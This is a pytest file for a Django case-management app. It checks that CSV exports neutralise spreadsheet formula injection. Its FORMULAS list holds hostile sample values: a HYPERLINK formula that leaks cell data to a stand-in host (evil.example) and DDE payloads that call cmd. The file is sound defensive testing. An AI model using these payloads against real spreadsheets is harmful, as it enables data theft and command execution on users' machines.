"""The CSV exports cannot carry a formula into the manager's spreadsheet: a text cell that
starts with = + - @, a tab or a carriage return is written with a leading single quote
(OWASP's advice), so `=HYPERLINK(…)` in a customer's name is shown, never run. Numbers we
write ourselves stay numbers, negative ones included."""

import csv
import io
from datetime import UTC, datetime

import pytest

from cases.intake import CustomerDetails
from cases.models import Category, Customer

from ..factories import CaseFactory
from .helpers import NOW, QUERY, at, feb

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Open the case")',
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


def rows(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode())))


def _twice(by, name, email):
    for day in (3, 4):
        with at(feb(day, 9)):
            CaseFactory(by=by, assignee=by, customer=CustomerDetails(email=email, name=name))


def test_a_customer_s_name_cannot_be_a_formula_in_the_at_risk_csv(manager, manager_client):
    for n, name in enumerate(FORMULAS):
        _twice(manager, name, f"c{n}@example.com")
    # Tab and CR are refused as input now; a row from before still must not slip through.
    for n, name in enumerate(["\t=1+1", "\r=1+1"], start=len(FORMULAS)):
        _twice(manager, f"Name {n}", f"c{n}@example.com")
        Customer.objects.filter(email=f"c{n}@example.com").update(name=name)
    with at(NOW):
        table = rows(manager_client.get(f"/insights/at-risk.csv?{QUERY}"))
    names = sorted(row[0] for row in table[1:])
    assert names == sorted(f"'{name}" for name in [*FORMULAS, "\t=1+1", "\r=1+1"])
    assert all(row[2] == "2" for row in table[1:])  # the count is still a plain number
    page = manager_client.get(f"/insights/?{QUERY}").content.decode()
    assert "'=HYPERLINK" not in page  # only the CSV is quoted; the page escapes as ever


def test_negative_numbers_stay_numbers_beside_a_quoted_name(manager, manager_client):
    returns = Category.objects.create(slug="returns", name="-Returns")
    for day in (20, 21):  # two in the period before 2–15 Feb, none in it
        with at(datetime(2026, 1, day, 9, tzinfo=UTC)):
            CaseFactory(by=manager, category=returns)
    with at(NOW):
        table = rows(manager_client.get(f"/insights/categories.csv?{QUERY}"))
    assert ["'-Returns", "0", "2", "-2", "-100.0"] in table


def test_plain_text_is_written_as_it_is(manager, manager_client):
    _twice(manager, "Ann Lee", "ann@example.com")
    with at(NOW):
        table = rows(manager_client.get(f"/insights/at-risk.csv?{QUERY}"))
    assert table[1][:3] == ["Ann Lee", "ann@example.com", "2"]
